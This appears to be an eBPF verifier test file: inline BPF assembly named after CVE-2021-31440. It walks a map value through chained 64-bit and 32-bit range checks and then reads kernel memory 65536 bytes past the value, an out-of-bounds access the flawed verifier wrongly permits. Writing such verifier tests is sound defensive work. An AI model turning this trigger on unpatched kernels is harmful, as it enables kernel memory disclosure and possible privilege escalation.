#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>
#include "oracle_asm.h"

struct { __uint(type, BPF_MAP_TYPE_ARRAY); __uint(max_entries, 1); __type(key, __u32); __type(value, struct { __u8 b[16]; }); } vals SEC(".maps");

SEC("socket") __naked void rp_range_cve_2021_31440_jmp_jle(void)
{
	asm volatile (
	"r1 = 0;"
	"*(u32 *)(r10 - 4) = r1;"
	"r2 = r10;"
	"r2 += -4;"
	"r1 = %[vals] ll;"
	"call %[bpf_map_lookup_elem];"
	"if r0 == 0 goto l39_%=;"
	"r6 = r0;"
	"r7 = *(u64 *)(r6 + 0);"
	"r8 = *(u64 *)(r6 + 8);"
	"r1 = 0xdc29280339a7bfe7 ll;"
	"r7 &= r1;"
	"r1 = 0x4020080021831445 ll;"
	"r7 |= r1;"
	"r1 = 0x4020080021831445 ll;"
	"if r7 < r1 goto l39_%=;"
	"r1 = 0xdc29280339a7bfe7 ll;"
	"if r7 > r1 goto l39_%=;"
	"r1 = 0xc40080003423248d ll;"
	"if r7 s< r1 goto l39_%=;"
	"if r7 s> 634855415 goto l39_%=;"
	"if w7 < 629513792 goto l39_%=;"
	"if w7 > 967294951 goto l39_%=;"
	"if w7 s< 629513792 goto l39_%=;"
	"if w7 s> 967294951 goto l39_%=;"
	"r1 = 0xdc35b68279a7bc81 ll;"
	"if r7 <= r1 goto l35_%=;"
	"goto l39_%=;"
	"l35_%=:"
	"if w7 > 564641767 goto l37_%=;"
	"goto l39_%=;"
	"l37_%=:"
	"r6 += 65536;"
	"r0 = *(u8 *)(r6 + 0);"
	"l39_%=:"
	"r0 = 0;"
	"exit;"
	:: __imm(bpf_map_lookup_elem), __imm_addr(vals) : __clobber_all);
}

char _license[] SEC("license") = "GPL";